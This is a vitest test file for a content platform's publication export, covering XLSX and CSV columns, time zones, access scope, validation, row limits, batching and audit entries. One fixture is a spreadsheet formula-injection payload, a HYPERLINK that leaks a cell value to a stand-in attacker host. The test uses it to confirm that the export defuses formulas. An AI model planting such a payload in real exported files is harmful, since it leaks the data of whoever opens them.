import { ERRORS } from '@postdeck/contract/errors';
import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '../../db/client.ts';
import { auditLog, channelAccounts, publications } from '../../db/schema.ts';
import { manualClock } from '../../lib/clock.ts';
import { departmentTree } from '../../test/fixtures.ts';
import { signUpPeople } from '../../test/people.ts';
import { type TestApp, call, createTestApp } from '../../test/test-app.ts';
import { publishExportRoutes } from './routes.ts';
import { canonicalTimeZone, formatInZone, instantOf } from './time-zone.ts';

/**
 * The publish list's export (issue 21): its columns in the caller's language and time zone, as
 * XLSX read back with exceljs and as CSV with its BOM; formulas written as text; the caller's
 * scope and the administrators' list; filters refused by name; the line limit before any byte;
 * keyset batches that skip and repeat nothing.
 */
const PASSWORD = 'Secr3t!pw';
const clock = manualClock(new Date('2026-06-01T08:00:00Z'));
const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
let t: TestApp;
let dept: Awaited<ReturnType<typeof departmentTree>>;
let tokens: Record<string, string>;
const ids = { news1: 0, news2: 0, intl: 0 };
let newsParents: number[] = [];
let intlParent = 0;

/** The test app's database, reached lazily (the extra routes are made before createTestApp returns). */
const lazyDb = new Proxy({} as Db, { get: (_target, key) => Reflect.get(t.db, key) as unknown });

const exportRaw = (
  who: string,
  query: Record<string, string>,
  headers: Record<string, string> = {},
  base = '',
) =>
  t.app.inject({
    method: 'GET',
    url: `/prod-api${base}/content/publish/export`,
    query,
    headers: { authorization: `Bearer ${tokens[who]}`, 'user-agent': 'vitest', ...headers },
  });

async function account(name: string, departmentId: number) {
  const [row] = await t.db
    .insert(channelAccounts)
    .values({ platform: 'telegram', externalId: `@${name}`, name, departmentId })
    .returning({ id: channelAccounts.id });
  if (!row) throw new Error('no account');
  return row.id;
}

/** A content published (scheduled a day ahead) to the accounts: the parent and its children. */
async function scheduled(who: string, title: string, accountIds: number[], departmentId: number) {
  const content = await call(t.app, 'POST', '/content/create', {
    token: tokens[who],
    body: {
      title,
      body: {
        type: 'doc',
        content: [{ type: 'paragraph', content: [{ type: 'text', text: `About ${title}` }] }],
      },
      departmentId,
    },
  });
  if (content.status !== 200) throw new Error(JSON.stringify(content.body));
  const made = await call(t.app, 'POST', '/content/publish/create', {
    token: tokens[who],
    body: {
      contentId: (content.body.data as { id: number }).id,
      targets: accountIds.map((accountId) => ({ accountId })),
      scheduledAt: new Date(clock.now().getTime() + 86_400_000).toISOString(),
    },
  });
  if (made.status !== 200) throw new Error(JSON.stringify(made.body));
  const data = made.body.data as { parentId: number; publications: { id: number }[] };
  return { parentId: data.parentId, children: data.publications.map((p) => p.id) };
}

async function xlsxRows(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ExcelJS.Buffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  const rows: ExcelJS.Row[] = [];
  sheet.eachRow((row) => rows.push(row));
  return { sheet, rows };
}

const csvRecords = (text: string) => parse(text.replace(/^\uFEFF/, '')) as string[][];

beforeAll(async () => {
  t = await createTestApp({
    clock,
    extend: (app) =>
      void app.register(
        async (scope) => publishExportRoutes(scope, { db: lazyDb, clock, maxRows: 3, batchSize: 2 }),
        { prefix: '/prod-api/small' },
      ),
  });
  dept = await departmentTree(t.db);
  ({ tokens } = await signUpPeople(
    t,
    [
      ['lead', dept.news, 'dept_admin'],
      ['writer', dept.news, 'editor'],
      ['intl', dept.intl, 'dept_admin'],
    ],
    { prefix: 'x', name: 'Xena', password: PASSWORD },
  ));
  ids.news1 = await account('News wire', dept.news);
  ids.news2 = await account('News night', dept.news);
  ids.intl = await account('Intl desk', dept.intl);

  // Two publish actions at the same instant (parent ids break the tie), one later, one abroad.
  const first = await scheduled('lead', FORMULA_TITLE, [ids.news1, ids.news2], dept.news);
  const second = await scheduled('writer', 'Plain title', [ids.news1], dept.news);
  clock.advance(60_000);
  const third = await scheduled('lead', 'Later story', [ids.news2], dept.news);
  intlParent = (await scheduled('intl', 'Intl dispatch', [ids.intl], dept.intl)).parentId;
  newsParents = [third.parentId, second.parentId, first.parentId];
  // One failed with words a spreadsheet would run, one published with its link.
  await t.db
    .update(publications)
    .set({ status: 'failed', errorKind: 'rejected', errorMessage: '@SUM(1+1) refused' })
    .where(eq(publications.id, first.children[1] as number));
  await t.db
    .update(publications)
    .set({
      status: 'published',
      externalUrl: 'https://t.me/news/1',
      publishedAt: new Date('2026-06-01T09:30:00Z'),
    })
    .where(eq(publications.id, first.children[0] as number));
}, 60_000);
afterAll(() => t.close());

describe('the time zone helpers', () => {
  it('read IANA names only, and local times through the changes of the clocks', () => {
    expect(canonicalTimeZone('asia/tokyo')).toBe('Asia/Tokyo');
    expect(canonicalTimeZone('UTC')).toBe('UTC');
    expect(canonicalTimeZone('+02:00')).toBeUndefined();
    expect(canonicalTimeZone('Mars/Olympus')).toBeUndefined();
    const wall = (day: number, hour: number, minute = 0) => ({
      year: 2026,
      month: 3,
      day,
      hour,
      minute,
      second: 0,
    });
    // Madrid: clocks forward at 02:00 on 29 March, back at 03:00 on 25 October.
    expect(instantOf(wall(28, 12), 'Europe/Madrid').toISOString()).toBe('2026-03-28T11:00:00.000Z');
    expect(instantOf(wall(29, 12), 'Europe/Madrid').toISOString()).toBe('2026-03-29T10:00:00.000Z');
    // 02:30 never shows: read as 03:30 (Temporal's 'compatible').
    expect(instantOf(wall(29, 2, 30), 'Europe/Madrid').toISOString()).toBe('2026-03-29T01:30:00.000Z');
    // 02:30 shows twice: the first.
    expect(instantOf({ ...wall(25, 2, 30), month: 10 }, 'Europe/Madrid').toISOString()).toBe(
      '2026-10-25T00:30:00.000Z',
    );
    expect(formatInZone(new Date('2026-06-01T08:00:00Z'), 'Asia/Tokyo')).toBe('2026-06-01 17:00:00');
  });
});

describe('the XLSX', () => {
  it('holds a line per account, the page’s columns in the caller’s language, times in their zone', async () => {
    const res = await exportRaw(
      'lead',
      { format: 'xlsx', timeZone: 'Asia/Tokyo' },
      { 'accept-language': 'es' },
    );
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="publications-department-2026-06-01-1701\.xlsx"$/,
    );
    const { sheet, rows } = await xlsxRows(res.rawPayload);
    expect(sheet.name).toBe('Publicaciones');
    const [header, ...lines] = rows;
    expect(header?.values).toEqual([
      undefined,
      'ID de publicación',
      'Título',
      'Autor',
      'Departamento',
      'Cuenta',
      'Plataforma',
      'Estado',
      'Creada (Asia/Tokyo)',
      'Programada para (Asia/Tokyo)',
      'Publicada (Asia/Tokyo)',
      'Enlace',
      'Error',
    ]);
    // Newest publish action first; a publish action's accounts in the order they were made.
    expect(lines.map((row) => row.getCell(1).value)).toEqual([
      newsParents[0],
      newsParents[1],
      newsParents[2],
      newsParents[2],
    ]);
    const published = lines[2] as ExcelJS.Row;
    expect(published.getCell(2).value).toBe(FORMULA_TITLE);
    // A string cell, never a formula: the spreadsheet shows it and runs nothing.
    expect(published.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(published.getCell(3).value).toBe('Xena lead');
    expect(published.getCell(4).value).toBe('Newsroom');
    expect(published.getCell(5).value).toBe('News wire');
    expect(published.getCell(6).value).toBe('Telegram');
    expect(published.getCell(7).value).toBe('Publicada');
    // Date cells showing Tokyo's wall clock (spreadsheets keep no zone).
    expect(published.getCell(8).type).toBe(ExcelJS.ValueType.Date);
    expect((published.getCell(8).value as Date).toISOString()).toBe('2026-06-01T17:00:00.000Z');
    expect((published.getCell(9).value as Date).toISOString()).toBe('2026-06-02T17:00:00.000Z');
    expect((published.getCell(10).value as Date).toISOString()).toBe('2026-06-01T18:30:00.000Z');
    expect(published.getCell(11).value).toBe('https://t.me/news/1');
    const failed = lines[3] as ExcelJS.Row;
    expect(failed.getCell(7).value).toBe('Fallida');
    expect(failed.getCell(10).value).toBeNull();
    expect(failed.getCell(12).value).toBe('@SUM(1+1) refused');
    expect(failed.getCell(12).type).toBe(ExcelJS.ValueType.String);
  });
});

describe('the CSV', () => {
  it('starts with a BOM, defuses formulas, and writes times in the zone', async () => {
    const res = await exportRaw('lead', { format: 'csv', timeZone: 'America/New_York' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toContain('.csv"');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [header, ...lines] = csvRecords(res.body);
    expect(header?.[0]).toBe('Publish ID');
    expect(header?.[7]).toBe('Created (America/New_York)');
    expect(lines).toHaveLength(4);
    const [published, failed] = [lines[2] ?? [], lines[3] ?? []];
    expect(published[1]).toBe(`'${FORMULA_TITLE}`);
    expect(published.slice(5, 11)).toEqual([
      'Telegram',
      'Published',
      '2026-06-01 04:00:00',
      '2026-06-02 04:00:00',
      '2026-06-01 05:30:00',
      'https://t.me/news/1',
    ]);
    expect(failed[11]).toBe("'@SUM(1+1) refused");
  });

  it('keeps to the lines the accounts’ filters name', async () => {
    const res = await exportRaw('lead', { format: 'csv', status: 'failed' });
    const [, ...lines] = csvRecords(res.body);
    expect(lines.map((line) => [line[4], line[6]])).toEqual([['News night', 'Failed']]);
    const byKeyword = csvRecords((await exportRaw('lead', { format: 'csv', keyword: 'later' })).body);
    expect(byKeyword.slice(1).map((line) => line[1])).toEqual(['Later story']);
  });
});

describe('who sees what', () => {
  const parentsIn = async (who: string, query: Record<string, string>) => {
    const res = await exportRaw(who, { format: 'csv', ...query });
    expect(res.statusCode, res.body).toBe(200);
    return [
      ...new Set(
        csvRecords(res.body)
          .slice(1)
          .map((line) => Number(line[0])),
      ),
    ];
  };

  it('keeps to the data scope: another department’s lines are never in it', async () => {
    expect(await parentsIn('lead', {})).toEqual(newsParents);
    expect(await parentsIn('intl', {})).toEqual([intlParent]);
    // Naming the other department as a filter finds nothing of it.
    expect(await parentsIn('intl', { departmentId: String(dept.news) })).toEqual([]);
    expect(await parentsIn('intl', { oppId: String(newsParents[0]) })).toEqual([]);
    expect(await parentsIn('writer', { list: 'mine' })).toEqual([newsParents[1]]);
  });

  it('gives every department’s list to holders of publish:admin:list only', async () => {
    const refused = await exportRaw('lead', { list: 'all' });
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toMatchObject({ code: ERRORS.forbidden.code });
    expect(await parentsIn('admin', { list: 'all' })).toEqual([intlParent, ...newsParents]);
  });
});

describe('refusals', () => {
  it('name the field of a bad filter', async () => {
    for (const [query, field] of [
      [{ status: 'gone' }, 'status'],
      [{ format: 'pdf' }, 'format'],
      [{ list: 'everyone' }, 'list'],
      [{ timeZone: 'Mars/Olympus' }, 'timeZone'],
      [{ timeZone: '+02:00' }, 'timeZone'],
      [{ time: 'yesterday' }, 'time'],
    ] as const) {
      const res = await exportRaw('lead', query);
      expect(res.statusCode, JSON.stringify(query)).toBe(400);
      const errors = (res.json() as { data: { errors: { field: string }[] } }).data.errors;
      expect(errors.map((error) => error.field)).toContain(field);
    }
  });

  it('refuses more lines than the limit before any byte, and writes no audit entry for it', async () => {
    const before = await t.db.$count(auditLog, eq(auditLog.action, 'publish.export'));
    const res = await exportRaw('lead', { format: 'csv' }, {}, '/small');
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: ERRORS.publishExportTooLarge.code });
    expect((res.json() as { msg: string }).msg).toContain('3');
    expect(await t.db.$count(auditLog, eq(auditLog.action, 'publish.export'))).toBe(before);
  });
});

describe('reading in batches', () => {
  it('gives the same lines as one read, none skipped nor repeated, ties broken by publish action', async () => {
    // The small route reads two lines a query and takes at most three: keep to three.
    const query = { format: 'csv', keyword: 'i', timeZone: 'UTC' };
    const whole = await exportRaw('lead', query);
    const batched = await exportRaw('lead', query, {}, '/small');
    expect(batched.statusCode, batched.body).toBe(200);
    expect(csvRecords(batched.body)).toEqual(csvRecords(whole.body));
    expect(csvRecords(whole.body).slice(1)).toHaveLength(3);
  });
});

describe('the audit log', () => {
  it('records each export with its filters and line count', async () => {
    await exportRaw('lead', { format: 'csv', status: 'failed', timeZone: 'Europe/Madrid' });
    const [entry] = await t.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'publish.export'), eq(auditLog.actorAccount, 'x_lead')))
      .orderBy(auditLog.id)
      .then((rows) => rows.slice(-1));
    expect(entry?.detail).toEqual({
      list: 'department',
      format: 'csv',
      timeZone: 'Europe/Madrid',
      filters: { status: 'failed' },
      rows: 1,
    });
  });
});
